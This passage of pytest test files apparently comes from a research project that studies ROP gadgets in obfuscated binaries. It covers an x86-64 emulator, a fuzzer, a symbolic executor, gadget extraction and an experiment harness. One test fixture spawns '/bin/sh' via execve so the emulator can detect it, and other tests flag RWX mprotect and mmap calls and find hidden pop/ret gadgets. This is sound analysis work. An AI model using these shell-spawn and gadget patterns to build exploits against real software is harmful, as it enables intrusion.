    assert emu.cpu.get(Reg.RCX) == 0xFF


def test_lea_computes_address_without_access():
    cpu = run_regs(
        """
        mov rbx, 0x100
        lea rax, [rbx+0x20]
        """
    )
    assert cpu.get(Reg.RAX) == 0x120


def test_call_ret():
    cpu = run_regs(
        """
            call fn
            jmp done
        fn:
            mov rax, 77
            ret
        done:
        """
    )
    assert cpu.get(Reg.RAX) == 77


def test_leave_restores_frame():
    cpu = run_regs(
        """
        mov rbp, 0x9999
        push rbp            ; saved rbp
        mov rbp, rsp
        sub rsp, 32
        mov rbp, rsp
        add rbp, 32
        leave
        """
    )
    assert cpu.get(Reg.RBP) == 0x9999


def test_conditional_jump_taken_and_not():
    cpu = run_regs(
        """
            mov rax, 5
            cmp rax, 5
            je eq
            mov rbx, 0
            jmp out
        eq:
            mov rbx, 1
        out:
            cmp rax, 9
            jg wrong
            mov rcx, 2
            jmp end
        wrong:
            mov rcx, 3
        end:
        """
    )
    assert cpu.get(Reg.RBX) == 1
    assert cpu.get(Reg.RCX) == 2


def test_signed_vs_unsigned_compare():
    cpu = run_regs(
        """
            mov rax, 0xffffffffffffffff   ; -1 signed, huge unsigned
            cmp rax, 1
            jl signed_less
            mov rbx, 0
            jmp next
        signed_less:
            mov rbx, 1
        next:
            cmp rax, 1
            ja unsigned_above
            mov rcx, 0
            jmp end
        unsigned_above:
            mov rcx, 1
        end:
        """
    )
    assert cpu.get(Reg.RBX) == 1, "-1 < 1 signed"
    assert cpu.get(Reg.RCX) == 1, "0xffff... > 1 unsigned"


def test_indirect_jumps_register_and_memory():
    # The jump table lives on the stack: .text is not writable.
    cpu = run_regs(
        """
            mov rax, target
            jmp rax
            mov rbx, 999
        target:
            mov rbx, 42
            mov rcx, rsp
            sub rcx, 64
            mov rdx, target2
            mov [rcx], rdx
            jmp [rcx]
            mov rsi, 888
        target2:
            mov rsi, 7
        end:
        """
    )
    assert cpu.get(Reg.RBX) == 42
    assert cpu.get(Reg.RSI) == 7


def test_jmp_table_in_data_requires_mapped_memory():
    emu = emu_for(
        """
        mov rax, 0x600000
        mov rbx, 0x400000
        mov [rax], rbx
        jmp [rax]
        """,
        data=b"\x00" * 16,
    )
    for _ in range(4):
        emu.step()
    assert emu.cpu.rip == 0x400000


def test_syscall_write_captures_stdout():
    unit_src = """
        mov rax, 1          ; write
        mov rdi, 1          ; fd
        mov rsi, msg
        mov rdx, 5
        syscall
        mov rax, 60
        mov rdi, 0
        syscall
    msg:
        .asciz "hello"
    """
    unit = assemble_unit(unit_src, base_addr=0x400000)
    image = make_image(unit.code, symbols=unit.labels)
    status, stdout = run_image(image)
    assert status == 0
    assert stdout == b"hello"


def test_execve_raises_attack_triggered():
    emu = emu_for(
        """
        mov rax, 59
        mov rdi, path
        mov rsi, 0
        mov rdx, 0
        syscall
    path:
        .asciz "/bin/sh"
        """
    )
    with pytest.raises(AttackTriggered) as excinfo:
        emu.run()
    event = excinfo.value.event
    assert event.number == Sys.EXECVE
    assert event.path == b"/bin/sh"
    assert event.is_shell_spawn()


def test_mprotect_event_fields():
    emu = emu_for(
        """
        mov rax, 10
        mov rdi, 0x600000
        mov rsi, 0x1000
        mov rdx, 7
        syscall
        """
    )
    with pytest.raises(AttackTriggered) as excinfo:
        emu.run()
    event = excinfo.value.event
    assert event.number == Sys.MPROTECT
    assert event.addr == 0x600000
    assert event.length == 0x1000
    assert event.prot == 7


def test_mprotect_modelled_when_not_stopping():
    emu = emu_for(
        """
        mov rax, 10
        mov rdi, 0x600000
        mov rsi, 0x1000
        mov rdx, 7
        syscall
        mov rax, 60
        mov rdi, 0
        syscall
        """,
        data=b"\x00" * 16,
        stop_on_attack=False,
    )
    status = emu.run()
    assert status == 0
    assert len(emu.syscalls.events) == 1


def test_unknown_syscall_returns_enosys():
    cpu = run_regs(
        """
        mov rax, 9999
        syscall
        """
    )
    assert cpu.get(Reg.RAX) == (-38) & ((1 << 64) - 1)


def test_write_to_text_faults():
    emu = emu_for(
        """
        mov rax, 0x400000
        mov rbx, 1
        mov [rax], rbx
        """
    )
    with pytest.raises(MemoryFault):
        for _ in range(3):
            emu.step()


def test_execute_from_data_faults():
    emu = emu_for(
        """
        mov rax, 0x600000
        jmp rax
        """,
        data=b"\x00" * 16,
    )
    with pytest.raises(InvalidInstruction):
        for _ in range(3):
            emu.step()


def test_unmapped_access_faults():
    emu = emu_for("mov rax, [rbx+0]")
    emu.cpu.set(Reg.RBX, 0x123456789)
    with pytest.raises(MemoryFault):
        emu.step()


def test_step_limit():
    emu = emu_for("loop: jmp loop", step_limit=100)
    with pytest.raises(StepLimitExceeded):
        emu.run()


def test_stack_initial_rsp_below_top():
    emu = emu_for("nop")
    assert emu.cpu.get(Reg.RSP) < STACK_TOP


def test_trace_records_instructions():
    emu = emu_for("mov rax, 1\nmov rbx, 2\nhlt", trace=True)
    emu.run()
    assert len(emu.trace) == 3


def test_run_catching_attack_returns_none_on_crash():
    emu = emu_for("mov rax, [rbx]")  # rbx=0 → unmapped
    assert emu.run_catching_attack() is None


# -- syscall argument decoding ----------------------------------------------


def _handler(**kwargs):
    from repro.emulator import Memory, SyscallHandler

    return SyscallHandler(Memory(), **kwargs)


def test_mmap_event_records_prot_and_flags():
    handler = _handler()
    args = (0x700000, 0x2000, 7, 0x22, 0, 0)
    with pytest.raises(AttackTriggered) as excinfo:
        handler.dispatch(int(Sys.MMAP), args)
    event = excinfo.value.event
    assert event.number == Sys.MMAP
    assert (event.addr, event.length, event.prot, event.flags) == (0x700000, 0x2000, 7, 0x22)


def test_mremap_event_decodes_real_signature():
    """mremap(old_addr, old_size, new_size, flags, new_addr) — it was
    decoded like mmap, mislabelling new_size/flags as prot."""
    handler = _handler()
    args = (0x600000, 0x1000, 0x3000, 1, 0x700000, 0)
    with pytest.raises(AttackTriggered) as excinfo:
        handler.dispatch(int(Sys.MREMAP), args)
    event = excinfo.value.event
    assert event.number == Sys.MREMAP
    assert event.args == args[:5]
    assert event.addr == 0x600000
    assert event.length == 0x3000, "length is the *new* size (arg 2)"
    assert event.flags == 1
    assert event.prot is None, "mremap has no prot argument"


# -- mprotect argument validation (kernel semantics) -------------------------


_EINVAL = (-22) & ((1 << 64) - 1)
_ENOMEM = (-12) & ((1 << 64) - 1)


def test_mprotect_unaligned_addr_returns_einval():
    handler = _handler()
    ret = handler.dispatch(int(Sys.MPROTECT), (0x600001, 0x1000, 7, 0, 0, 0))
    assert ret == _EINVAL
    assert handler.events == [], "invalid request must not be recorded"


def test_mprotect_bad_prot_bits_return_einval():
    handler = _handler()
    for prot in (8, 0x10, 7 | 0x20):
        ret = handler.dispatch(int(Sys.MPROTECT), (0x600000, 0x1000, prot, 0, 0, 0))
        assert ret == _EINVAL, hex(prot)
    assert handler.events == []


def test_mprotect_valid_request_still_raises_attack():
    handler = _handler()
    with pytest.raises(AttackTriggered):
        handler.dispatch(int(Sys.MPROTECT), (0x600000, 0x1000, 7, 0, 0, 0))


def test_mprotect_applies_requested_prot_when_modelled():
    from repro.emulator import Memory, PAGE_SIZE, PERM_R, PERM_X, SyscallHandler

    mem = Memory()
    mem.map(0x600000, PAGE_SIZE, PERM_R)
    handler = SyscallHandler(mem, stop_on_attack=False)
    ret = handler.dispatch(int(Sys.MPROTECT), (0x600000, PAGE_SIZE, 5, 0, 0, 0))
    assert ret == 0
    assert mem.perms_at(0x600000) == (PERM_R | PERM_X)


def test_mprotect_unmapped_region_returns_einval_when_modelled():
    handler = _handler(stop_on_attack=False)
    ret = handler.dispatch(int(Sys.MPROTECT), (0x600000, 0x1000, 7, 0, 0, 0))
    assert ret == _EINVAL


def test_mprotect_validates_before_policy_filter():
    """Malformed requests fail with -EINVAL before any policy hook runs."""
    seen = []

    def filt(sys_no, args):
        seen.append(sys_no)
        return None

    handler = _handler(syscall_filter=filt)
    assert handler.dispatch(int(Sys.MPROTECT), (0x600001, 0x1000, 7, 0, 0, 0)) == _EINVAL
    assert seen == []


def test_syscall_filter_vetoes_mprotect():
    _EACCES = (-13) & ((1 << 64) - 1)

    def filt(sys_no, args):
        return _EACCES if sys_no is Sys.MPROTECT else None

    handler = _handler(syscall_filter=filt)
    ret = handler.dispatch(int(Sys.MPROTECT), (0x600000, 0x1000, 7, 0, 0, 0))
    assert ret == _EACCES
    assert handler.events == [], "vetoed call must not count as an attack"


# -- modelled anonymous mmap --------------------------------------------------


def test_mmap_model_bump_allocates_and_maps():
    from repro.emulator import PAGE_SIZE
    from repro.emulator.syscalls import MMAP_BASE

    handler = _handler(stop_on_attack=False)
    first = handler.dispatch(int(Sys.MMAP), (0, 0x1800, 7, 0x22, 0, 0))
    assert first == MMAP_BASE
    assert handler.memory.is_mapped(first)
    assert handler.memory.perms_at(first) == 7
    second = handler.dispatch(int(Sys.MMAP), (0, 0x1000, 3, 0x22, 0, 0))
    assert second == MMAP_BASE + 2 * PAGE_SIZE, "0x1800 rounds up to two pages"


def test_mmap_model_rejects_bad_requests():
    handler = _handler(stop_on_attack=False)
    assert handler.dispatch(int(Sys.MMAP), (0, 0, 7, 0, 0, 0)) == _EINVAL
    assert handler.dispatch(int(Sys.MMAP), (0, 0x1000, 0x10, 0, 0, 0)) == _EINVAL
    assert handler.dispatch(int(Sys.MMAP), (0x700001, 0x1000, 7, 0, 0, 0)) == _EINVAL


def test_mmap_model_refuses_to_clobber_existing_mapping():
    from repro.emulator import PAGE_SIZE, PERM_R

    handler = _handler(stop_on_attack=False)
    handler.memory.map(0x700000, PAGE_SIZE, PERM_R)
    ret = handler.dispatch(int(Sys.MMAP), (0x700000, 0x1000, 7, 0, 0, 0))
    assert ret == _ENOMEM


# -- write(2) length clamping ------------------------------------------------


def _write_handler(pages=1, fill=b"A"):
    from repro.emulator import Memory, PAGE_SIZE, PERM_R, SyscallHandler

    mem = Memory()
    mem.map(0x1000, pages * PAGE_SIZE, PERM_R)
    mem.write_initial(0x1000, fill * (pages * PAGE_SIZE))
    return SyscallHandler(mem, stop_on_attack=False)


def test_write_clamps_count_to_mapped_run():
    """The guest's count was trusted unboundedly — a corrupted length
    made the host materialize the whole read.  Clamp to what is mapped
    (partial-write semantics, like the kernel)."""
    handler = _write_handler(pages=1)
    ret = handler.dispatch(int(Sys.WRITE), (1, 0x1800, 1 << 40, 0, 0, 0))
    assert ret == 0x800, "partial write up to the end of the mapping"
    assert bytes(handler.stdout) == b"A" * 0x800


def test_write_crossing_pages_clamps_at_unmapped():
    handler = _write_handler(pages=2)
    ret = handler.dispatch(int(Sys.WRITE), (1, 0x1100, 0x10000, 0, 0, 0))
    assert ret == 0x1F00  # both pages minus the 0x100 offset
    assert len(handler.stdout) == 0x1F00


def test_write_within_mapping_is_exact():
    handler = _write_handler(pages=1)
    ret = handler.dispatch(int(Sys.WRITE), (1, 0x1000, 5, 0, 0, 0))
    assert ret == 5
    assert bytes(handler.stdout) == b"AAAAA"


def test_write_unmapped_buffer_returns_efault():
    handler = _handler(stop_on_attack=False)
    ret = handler.dispatch(int(Sys.WRITE), (1, 0xDEAD000, 16, 0, 0, 0))
    assert ret == (-14) & ((1 << 64) - 1)
    assert not handler.stdout


def test_write_zero_count_returns_zero():
    handler = _write_handler()
    assert handler.dispatch(int(Sys.WRITE), (1, 0x1000, 0, 0, 0, 0)) == 0
