"""Tests for the differential-fuzzing subsystem (repro.fuzz).

Covers campaign determinism, every oracle's green path, the injected
emulator off-by-one being caught and auto-shrunk to a tiny reproducer,
and the DEC/Jcc carry-flag regression the fuzzer surfaced.
"""

import json

from repro.binfmt.image import make_image
from repro.emulator.cpu import Emulator
from repro.fuzz import (
    Case,
    case_from_dict,
    case_to_dict,
    check_prefilter,
    check_roundtrip,
    check_window,
    gen_bytes,
    gen_program,
    gen_window,
    load_corpus,
    relayout,
    run_case,
    run_fuzz,
    save_case,
    shrink_case,
    spec_of,
    window_insn_count,
)
from repro.fuzz.campaign import ORACLE_NAMES
from repro.isa.encoding import decode_window, encode_program
from repro.isa.instructions import Instruction, Op
from repro.isa.registers import MASK64, Reg
from repro.obfuscation.pipeline import CONFIGS, build_program
from repro.symex.executor import SymbolicExecutor
from repro.symex.expr import free_symbols


class OffByOneEmulator(Emulator):
    """Deliberately broken: pop advances rsp by 16 instead of 8."""

    def pop(self) -> int:
        rsp = self.cpu.get(Reg.RSP)
        value = self.memory.read_u64(rsp)
        self.cpu.set(Reg.RSP, (rsp + 16) & MASK64)
        return value


def _window(spec):
    return encode_program(relayout(spec, base=0))


I = Instruction
R = Reg

_DEC_JB = _window(
    [
        (I(op=Op.DEC_R, dst=R.RAX), None),
        (I(op=Op.JB, rel=0), 3),
        (I(op=Op.MOV_RI, dst=R.RAX, imm=7), None),
        (I(op=Op.RET), None),
    ]
)

_POP_RET = _window([(I(op=Op.POP1, dst=R.RAX), None), (I(op=Op.RET), None)])


# ---------------------------------------------------------------------------
# generators
# ---------------------------------------------------------------------------


def test_gen_window_is_wellformed_and_seed_stable():
    import random

    for seed in range(30):
        a = gen_window(random.Random(f"s{seed}"))
        b = gen_window(random.Random(f"s{seed}"))
        assert [str(i) for i in a] == [str(i) for i in b]
        assert a[-1].op in (Op.RET, Op.JMP_R, Op.JMP_M, Op.CALL_R, Op.SYSCALL)
        blob = encode_program(a)
        chain = list(decode_window(blob, 0, base_addr=0, max_insns=100))
        assert len(chain) == len(a)  # every generated window decodes fully


def test_gen_program_compiles_and_runs_everywhere():
    import random

    source = gen_program(random.Random("prog"))
    from repro.emulator.cpu import run_image

    reference = None
    for name in ("none", "substitution", "flattening"):
        program = build_program(source, CONFIGS[name], seed=3)
        result = run_image(program.image, step_limit=2_000_000)
        if reference is None:
            reference = result
        assert result == reference


def test_spec_relayout_roundtrip_preserves_targets():
    spec = [
        (I(op=Op.CMP_RR, dst=R.RAX, src=R.RBX), None),
        (I(op=Op.JNE, rel=0), 3),
        (I(op=Op.INC_R, dst=R.RCX), None),
        (I(op=Op.RET), None),
    ]
    insns = relayout(spec, base=0)
    assert insns[1].target == insns[3].addr
    again = relayout(spec_of(insns), base=0)
    assert [str(i) for i in again] == [str(i) for i in insns]


# ---------------------------------------------------------------------------
# oracles: green paths
# ---------------------------------------------------------------------------


def test_roundtrip_oracle_green_on_generated_inputs():
    import random

    rng = random.Random(0)
    assert check_roundtrip(encode_program(gen_window(rng))) == []
    assert check_roundtrip(gen_bytes(rng, 64)) == []


def test_window_oracle_green_on_fixed_windows():
    for text in (_DEC_JB, _POP_RET):
        for env_seed in range(4):
            assert check_window(text, 0, env_seed) == []


def test_prefilter_oracle_green():
    import random

    rng = random.Random(5)
    text = encode_program(gen_window(rng)) + gen_bytes(rng, 24)
    assert check_prefilter(text, max_insns=6, max_paths=6) == []


def test_campaign_deterministic_and_green():
    first = run_fuzz(seed=11, iters=12)
    second = run_fuzz(seed=11, iters=12)
    assert first.summary() == second.summary()
    assert first.total_failures == 0
    assert first.stats["roundtrip"].runs == 12
    assert first.stats["emu_symex"].runs == 12


def test_campaign_rejects_unknown_oracle():
    import pytest

    with pytest.raises(ValueError):
        run_fuzz(seed=0, iters=1, oracles=["nope"])
    assert set(ORACLE_NAMES) >= {"roundtrip", "emu_symex", "prefilter", "winnow"}


# ---------------------------------------------------------------------------
# the injected bug: caught, shrunk, banked, replayable
# ---------------------------------------------------------------------------


def test_injected_off_by_one_is_caught():
    messages = check_window(_POP_RET, 0, env_seed=1, emulator_factory=OffByOneEmulator)
    assert messages, "broken pop must diverge from symex"
    assert any("rsp" in m for m in messages)


def test_injected_off_by_one_shrinks_to_tiny_reproducer(tmp_path):
    # A long window whose failing core is a single trailing ret.
    spec = [
        (I(op=Op.MOV_RI, dst=R.RBX, imm=5), None),
        (I(op=Op.ADD_RR, dst=R.RBX, src=R.RAX), None),
        (I(op=Op.POP1, dst=R.RCX), None),
        (I(op=Op.XOR_RR, dst=R.RDX, src=R.RDX), None),
        (I(op=Op.RET), None),
    ]
    case = Case(oracle="emu_symex", kind="window", text=_window(spec), offset=0, env_seed=2)
    assert run_case(case, emulator_factory=OffByOneEmulator)
    shrunk = shrink_case(case, emulator_factory=OffByOneEmulator)
    assert window_insn_count(shrunk) <= 3  # acceptance: ≤ 3 instructions
    # Still a reproducer under the buggy emulator, green under the real one.
    assert run_case(shrunk, emulator_factory=OffByOneEmulator)
    assert run_case(shrunk) == []
    # Banked and replayable through the corpus JSON round-trip.
    path = save_case(tmp_path, shrunk, description="injected off-by-one")
    [loaded] = load_corpus(tmp_path)
    assert loaded.text == shrunk.text and loaded.offset == shrunk.offset
    assert run_case(loaded, emulator_factory=OffByOneEmulator)


def test_campaign_catches_and_banks_injected_bug(tmp_path):
    report = run_fuzz(
        seed=0,
        iters=6,
        oracles=["emu_symex"],
        emulator_factory=OffByOneEmulator,
        corpus_dir=tmp_path,
    )
    assert report.total_failures > 0
    banked = list(tmp_path.glob("*.json"))
    assert banked, "failures must be banked into the corpus"
    for failure in report.failures:
        assert failure.banked is not None
        assert window_insn_count(failure.shrunk) <= 3
    # Every banked case replays red on the buggy emulator.
    for case in load_corpus(tmp_path):
        assert run_case(case, emulator_factory=OffByOneEmulator)


# ---------------------------------------------------------------------------
# the real bug the fuzzer surfaced: DEC/Jcc carry-flag staleness
# ---------------------------------------------------------------------------


def test_dec_jb_regression_symex_uses_preserved_cf():
    """DEC preserves CF (as on x86); an unsigned Jcc after DEC must
    depend on the *initial* carry, never on the DEC borrow rax < 1."""
    image = make_image(_DEC_JB)
    base = image.text.addr
    executor = SymbolicExecutor(_DEC_JB, base, max_insns=8, max_paths=4)
    paths = [p for p in executor.execute_paths(base) if p.is_usable]
    assert len(paths) == 2
    for path in paths:
        syms = set()
        for constraint in path.state.constraints:
            syms |= free_symbols(constraint)
        assert "flag_cf" in syms, "branch must read the preserved initial CF"
        assert "rax0" not in syms, "branch must not read the stale DEC borrow"
    # And the differential oracle agrees with the concrete emulator.
    for env_seed in range(8):
        assert check_window(_DEC_JB, 0, env_seed) == []


def test_prefilter_mirrors_cf_patch():
    """The abstract-flags mirror must not claim a definite unsigned
    branch direction from stale sub operands after a DEC."""
    from repro.staticanalysis.window import AbsFlags, Tribool, Const

    flags = AbsFlags.from_sub(Const(5), Const(1), Const(4)).with_cf(Tribool.UNKNOWN)
    assert flags.condition("jb") is Tribool.UNKNOWN
    assert flags.condition("jae") is Tribool.UNKNOWN
    # Equality conditions may still use the precise operands.
    assert flags.condition("jne") is Tribool.TRUE


# ---------------------------------------------------------------------------
# corpus serialization
# ---------------------------------------------------------------------------


def test_case_json_roundtrip():
    case = Case(
        oracle="emu_symex",
        kind="window",
        text=_DEC_JB,
        offset=0,
        env_seed=3,
        note="dec jb",
        configs=("none",),
    )
    data = json.loads(json.dumps(case_to_dict(case, "desc")))
    back = case_from_dict(data)
    assert back.text == case.text
    assert back.oracle == case.oracle
    assert back.configs == case.configs
    assert back.note == "desc"
