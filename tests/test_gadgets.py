"""Tests for gadget extraction, classification, and subsumption."""


from repro.binfmt import make_image
from repro.gadgets import (
    ExtractionConfig,
    JmpType,
    count_by_type,
    deduplicate_gadgets,
    extract_gadgets,
    scan_syntactic_gadgets,
    subsumes,
    total_gadgets,
)
from repro.gadgets.subsumption import SubsumptionStats
from repro.isa import Op, Reg, assemble_unit
from repro.symex import bv_const, stack_sym


def image_for(source):
    unit = assemble_unit(source, base_addr=0x400000)
    return make_image(unit.code, symbols=dict(unit.labels, fn_entry=0x400000))


def extract(source, **cfg):
    image = image_for(source)
    return extract_gadgets(image, ExtractionConfig(**cfg))


def find_gadget(records, mnemonic_seq):
    """Find a record whose instruction mnemonics start with the given seq."""
    for r in records:
        names = [i.info.mnemonic for i in r.insns]
        if names[: len(mnemonic_seq)] == list(mnemonic_seq):
            return r
    return None


def test_extracts_pop_ret():
    records = extract("pop rdi\nret")
    g = find_gadget(records, ["pop", "ret"])
    assert g is not None
    assert g.jmp_type == JmpType.RET
    assert Reg.RDI in g.ctrl_regs
    assert g.post_regs[Reg.RDI] == stack_sym(0)
    assert g.stack_delta == 16


def test_extracts_suffixes_too():
    records = extract("pop rdi\npop rsi\nret")
    assert find_gadget(records, ["pop", "pop", "ret"]) is not None
    # The bare `pop rsi; ret` suffix is its own gadget.
    two = [r for r in records if [i.info.mnemonic for i in r.insns] == ["pop", "ret"]]
    assert two


def test_conditional_gadget_produces_constrained_records():
    records = extract(
        """
        entry:
            pop rax
            cmp rdx, rbx
            jne out
            pop rbx
            ret
        out:
            ret
        """
    )
    conditional = [r for r in records if r.conditional_jumps > 0]
    assert conditional
    assert any(r.pre_cond for r in conditional)
    assert all(r.jmp_type == JmpType.CIJ for r in conditional if r.end.value == "ret")


def test_direct_jump_merging_in_extraction():
    records = extract(
        """
        entry:
            pop rdi
            jmp tail
        tail:
            ret
        """
    )
    merged = [r for r in records if r.merged_direct_jumps > 0]
    assert merged
    assert any(r.jmp_type == JmpType.UDJ for r in merged)


def test_merge_disabled_by_config():
    records = extract(
        """
        entry:
            pop rdi
            jmp tail
        tail:
            ret
        """,
        merge_direct_jumps=False,
    )
    assert all(r.merged_direct_jumps == 0 for r in records)


def test_conditional_disabled_by_config():
    records = extract(
        """
        entry:
            cmp rdx, rbx
            jne out
            ret
        out:
            ret
        """,
        include_conditional=False,
    )
    assert all(r.conditional_jumps == 0 for r in records)


def test_unaligned_gadgets_found():
    # Hide `pop rdi; ret` inside a mov imm64.
    from repro.isa import Instruction, encode

    hidden = encode(Instruction(op=Op.POP_R, dst=Reg.RDI)) + encode(Instruction(op=Op.RET))
    imm = int.from_bytes(hidden + b"\x00" * (8 - len(hidden)), "little")
    source = f"mov rax, {imm}\nret"
    records = extract(source)
    g = find_gadget(records, ["pop", "ret"])
    assert g is not None, "unaligned gadget missed"


def test_unaligned_disabled():
    from repro.isa import Instruction, encode

    hidden = encode(Instruction(op=Op.POP_R, dst=Reg.RDI)) + encode(Instruction(op=Op.RET))
    imm = int.from_bytes(hidden + b"\x00" * (8 - len(hidden)), "little")
    records = extract(f"mov rax, {imm}\nret", probe_unaligned=False)
    assert find_gadget(records, ["pop", "ret"]) is None


def test_syscall_gadget():
    records = extract("mov rax, 59\nsyscall")
    g = find_gadget(records, ["mov", "syscall"])
    assert g is not None
    assert g.jmp_type == JmpType.SYSCALL
    assert g.post_regs[Reg.RAX] == bv_const(59)


def test_clobbered_vs_controlled():
    records = extract("mov rax, 5\npop rbx\nret")
    g = find_gadget(records, ["mov", "pop", "ret"])
    assert Reg.RAX in g.clob_regs
    assert Reg.RAX not in g.ctrl_regs  # constant, not controlled
    assert Reg.RBX in g.ctrl_regs


def test_max_candidates_cap():
    source = "\n".join("pop rax\nret" for _ in range(20))
    image = image_for(source)
    few = extract_gadgets(image, ExtractionConfig(max_candidates=3))
    many = extract_gadgets(image, ExtractionConfig())
    assert len(few) <= len(many)
    assert len(few) <= 3 * 6  # ≤ candidates × fork budget


# ---------------------------------------------------------------------------
# Syntactic classification (Fig. 1 / Table I machinery)
# ---------------------------------------------------------------------------


def test_syntactic_scan_counts_types():
    image = image_for(
        """
        entry:
            pop rax
            ret
            pop rbx
            jmp entry
            pop rcx
            jmp rax
            cmp rax, 0
            je entry
            test rax, rax
            jg somewhere
            jmp rdx
        somewhere:
            ret
        """
    )
    gadgets = scan_syntactic_gadgets(image)
    counts = count_by_type(gadgets)
    assert counts[JmpType.RET] > 0
    assert counts[JmpType.UDJ] > 0
    assert counts[JmpType.UIJ] > 0
    assert counts[JmpType.CDJ] > 0
    assert counts[JmpType.CIJ] > 0


def test_total_gadgets_monotone_in_code_size():
    small = image_for("pop rax\nret")
    big = image_for("\n".join(f"pop {r}\nret" for r in ["rax", "rbx", "rcx", "rdx"]))
    assert total_gadgets(big) > total_gadgets(small)


# ---------------------------------------------------------------------------
# Subsumption
# ---------------------------------------------------------------------------


def test_identical_gadgets_deduplicate():
    # Two copies of `pop rdi; ret` at different addresses: keep one.
    records = extract("pop rdi\nret\npop rdi\nret")
    full_copies = [
        r for r in records if [i.info.mnemonic for i in r.insns] == ["pop", "ret"]
        and r.post_regs[Reg.RDI] == stack_sym(0)
    ]
    assert len(full_copies) >= 2
    stats = SubsumptionStats()
    kept = deduplicate_gadgets(full_copies, stats=stats)
    assert len(kept) == 1
    assert stats.reduction_factor >= 2


def test_semantically_equal_but_syntactically_different():
    # `mov rax, 0` vs `xor rax, rax` (as a gadget: both end rax=0).
    records = extract("mov rax, 0\nret\nxor rax, rax\nret")
    zeroers = [
        r
        for r in records
        if r.post_regs[Reg.RAX] == bv_const(0) and r.end.value == "ret" and not r.pre_cond
        and r.stack_delta == 8
    ]
    assert len(zeroers) >= 2
    kept = deduplicate_gadgets(zeroers)
    assert len(kept) == 1


def test_different_semantics_not_merged():
    records = extract("pop rdi\nret\npop rsi\nret")
    a = find_gadget(records, ["pop", "ret"])
    pool = [
        r for r in records if [i.info.mnemonic for i in r.insns] == ["pop", "ret"]
    ]
    # pop rdi vs pop rsi must both survive.
    kept = deduplicate_gadgets(pool)
    controlled = {tuple(sorted(r.ctrl_regs)) for r in kept}
    assert (Reg.RDI,) in controlled
    assert (Reg.RSI,) in controlled


def test_subsumption_prefers_weaker_precondition():
    records = extract(
        """
        a:
            pop rdi
            ret
        b:
            pop rdi
            cmp rbx, rbx
            je done
            hlt
        done:
            ret
        """
    )
    # Both set rdi from the stack and return; the `cmp rbx, rbx; je` one
    # has a statically-true condition so its record carries no constraint
    # — after folding they're equal; dedup keeps one of them.
    pool = [
        r
        for r in records
        if Reg.RDI in r.ctrl_regs and r.end.value == "ret" and r.post_regs[Reg.RDI] == stack_sym(0)
        and r.stack_delta == 16
    ]
    if len(pool) >= 2:
        kept = deduplicate_gadgets(pool)
        assert len(kept) < len(pool)


def test_subsumes_api_direction():
    records = extract("pop rdi\nret\npop rdi\nret")
    pool = [
        r for r in records if [i.info.mnemonic for i in r.insns] == ["pop", "ret"]
        and r.post_regs[Reg.RDI] == stack_sym(0)
    ]
    a, b = pool[0], pool[1]
    assert subsumes(a, b)
    assert subsumes(b, a)  # equivalence: mutual subsumption


def test_dedup_preserves_memory_write_gadgets():
    records = extract("mov [rdi+0], rsi\nret\npop rax\nret")
    writers = [r for r in records if r.has_side_memory_writes]
    poppers = [r for r in records if r.ctrl_regs]
    kept = deduplicate_gadgets(records)
    assert any(r.has_side_memory_writes for r in kept)
    assert any(r.ctrl_regs for r in kept)
