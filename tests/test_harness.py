"""Tests for the experiment harness: drivers, caching, formatting."""

import pytest

from repro.bench import harness
from repro.bench.harness import (
    Table1Row,
    Table4Cell,
    Table5Row,
    Table7Row,
    build,
    fig1_gadget_counts,
    format_fig1,
    format_fig5,
    format_table1,
    format_table4,
    format_table5,
    format_table7,
    run_tool,
    table1_type_counts,
    table5_chain_properties,
)
from repro.gadgets.record import JmpType


def test_build_caches():
    a = build("crc32", "none")
    b = build("crc32", "none")
    assert a is b


def test_build_unknown_program_raises():
    with pytest.raises(KeyError):
        build("no_such_program", "none")


def test_fig1_on_two_programs():
    rows = fig1_gadget_counts(programs=("crc32", "bigint_add"), configs=("none", "llvm_obf"))
    assert len(rows) == 2
    for row in rows:
        assert row.counts["llvm_obf"] > row.counts["none"]
    text = format_fig1(rows)
    assert "crc32" in text and "TOTAL" in text


def test_table1_on_small_slice():
    rows = table1_type_counts(programs=("crc32", "state_machine"))
    kinds = {r.gadget_type for r in rows}
    assert kinds == {JmpType.RET, JmpType.UDJ, JmpType.UIJ, JmpType.CDJ, JmpType.CIJ}
    text = format_table1(rows)
    assert "RET" in text and "%" in text


def test_table1_increase_rate_math():
    row = Table1Row(gadget_type=JmpType.RET, original=100, obfuscated=180)
    assert row.increase_rate == pytest.approx(0.8)
    zero = Table1Row(gadget_type=JmpType.RET, original=0, obfuscated=5)
    assert zero.increase_rate == float("inf")


def test_run_tool_caches():
    a = run_tool("ropgadget", "crc32", "none")
    b = run_tool("ropgadget", "crc32", "none")
    assert a is b
    assert a.gadgets_total > 0


def test_run_tool_unknown_raises():
    with pytest.raises(KeyError):
        harness._make_tool("no_such_tool")


def test_format_table4_renders_new_column():
    cells = [
        Table4Cell("none", "gadget_planner", 100, 10, 1, 2, 3),
        Table4Cell("llvm_obf", "gadget_planner", 200, 20, 2, 4, 6, new_vs_original=6),
    ]
    text = format_table4(cells)
    assert "(6)" in text
    assert "llvm_obf" in text


def test_format_table5_percentages():
    rows = [Table5Row("tool_x", 2.5, 12.0, 100.0, 0.0, 0.0, 0.0)]
    text = format_table5(rows)
    assert "tool_x" in text and "100.0" in text


def test_table5_from_synthetic_payloads():
    gp_result = run_tool("gadget_planner", "string_ops", "none")
    rows = table5_chain_properties({"gadget_planner": gp_result.payloads})
    (row,) = rows
    if gp_result.payloads:
        assert row.avg_chain_len > 0
        assert abs(row.pct_ret + row.pct_ij + row.pct_dj + row.pct_cj - 100.0) < 1e-6


def test_format_fig5_bars():
    text = format_fig5({"flattening": 10, "substitution": 2})
    assert text.splitlines()[1].startswith("flattening")
    assert "#" in text


def test_format_table7():
    rows = [Table7Row("gadget_planner", "planning", 1.25, 64.2)]
    text = format_table7(rows)
    assert "planning" in text and "1.25" in text


def test_verify_semantics_quick():
    assert harness.verify_semantics("bigint_add", "substitution")
