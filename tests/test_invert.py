"""Tests for the syntactic equation inverter."""

from hypothesis import given, strategies as st

from repro.symex.expr import (
    MASK64,
    bv_add,
    bv_const,
    bv_mul,
    bv_neg,
    bv_not,
    bv_shl,
    bv_sub,
    bv_sym,
    bv_xor,
    eval_bv,
)
from repro.symex.invert import solve_for

X = bv_sym("x")
U64 = st.integers(min_value=0, max_value=MASK64)


def check_inversion(expr, target):
    result = solve_for(expr, target)
    assert result is not None
    name, value = result
    assert name == "x"
    assert eval_bv(expr, {"x": value}) == target & MASK64
    return value


def test_identity():
    assert check_inversion(X, 42) == 42


def test_add_const():
